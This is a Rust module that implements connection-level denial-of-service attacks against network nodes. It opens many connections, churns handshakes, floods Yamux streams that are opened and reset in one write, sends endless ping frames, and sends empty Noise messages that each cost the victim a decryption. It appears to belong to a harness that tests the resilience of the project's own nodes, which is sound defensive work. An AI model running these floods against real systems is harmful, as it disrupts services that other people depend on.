//! Attacks by whole connections: many of them, short ones, and frames that are cheap to send below any request.

use std::{sync::Arc, time::Duration};

use tokio::time;

use crate::{
    mux::{DATA, Habits, PING, RST, SYN, header},
    outsider::{Outsider, crowd},
};

/// Connections that are made concurrently by those that end them.
const CHURNING: usize = 16;
/// Connections of the floods.
const FLOODING: usize = 4;
/// Frames or messages in one write of a flood.
const BATCH: usize = 1_000;

/// `count` connections from one host, each as an identity of its own, with the first `nodes` nodes.
pub(super) async fn many(outsider: Arc<Outsider>, count: usize, nodes: usize) {
    let nodes = nodes.min(outsider.plan.nodes.len());
    crowd(count, |number| {
        let outsider = Arc::clone(&outsider);
        async move {
            let victim = &outsider.plan.nodes[number % nodes];
            outsider.connect(victim, Habits::default()).await?.ended().await;
            Ok(())
        }
    })
    .await;
}

/// Connections that end when their handshake is done.
pub(super) async fn churn(outsider: Arc<Outsider>) {
    crowd(CHURNING, |number| {
        let outsider = Arc::clone(&outsider);
        async move {
            loop {
                let victim = &outsider.plan.nodes[number % outsider.plan.nodes.len()];
                outsider.connect(victim, Habits::default()).await?;
            }
        }
    })
    .await;
}

/// Streams that are opened and reset in one write.
pub(super) async fn resets(outsider: Arc<Outsider>) {
    crowd(FLOODING, |number| {
        let outsider = Arc::clone(&outsider);
        async move {
            let victim = &outsider.plan.nodes[number % outsider.plan.nodes.len()];
            let connection = outsider.connect(victim, Habits::default()).await?;
            loop {
                let mut frames = Vec::new();
                for _ in 0..BATCH {
                    let id = connection.take_id();
                    frames.extend(header(DATA, SYN, id, 0));
                    frames.extend(header(DATA, RST, id, 0));
                }
                connection.send(&frames).await?;
                // Others of this process have turns too.
                time::sleep(Duration::from_millis(1)).await;
            }
        }
    })
    .await;
}

/// Pings of Yamux without end.
pub(super) async fn pings(outsider: Arc<Outsider>) {
    let frames: Arc<Vec<u8>> = Arc::new((0..BATCH).flat_map(|number| header(PING, SYN, 0, number)).collect());
    crowd(FLOODING, |number| {
        let (outsider, frames) = (Arc::clone(&outsider), Arc::clone(&frames));
        async move {
            let victim = &outsider.plan.nodes[number % outsider.plan.nodes.len()];
            let connection = outsider.connect(victim, Habits::default()).await?;
            loop {
                connection.send(&frames).await?;
                time::sleep(Duration::from_millis(1)).await;
            }
        }
    })
    .await;
}

/// Noise messages that have nothing in them: each costs a decryption.
pub(super) async fn empty_noise(outsider: Arc<Outsider>) {
    crowd(FLOODING, |number| {
        let outsider = Arc::clone(&outsider);
        async move {
            let victim = &outsider.plan.nodes[number % outsider.plan.nodes.len()];
            let connection = outsider.connect(victim, Habits::default()).await?;
            loop {
                connection.send_empty(BATCH).await?;
                time::sleep(Duration::from_millis(1)).await;
            }
        }
    })
    .await;
}
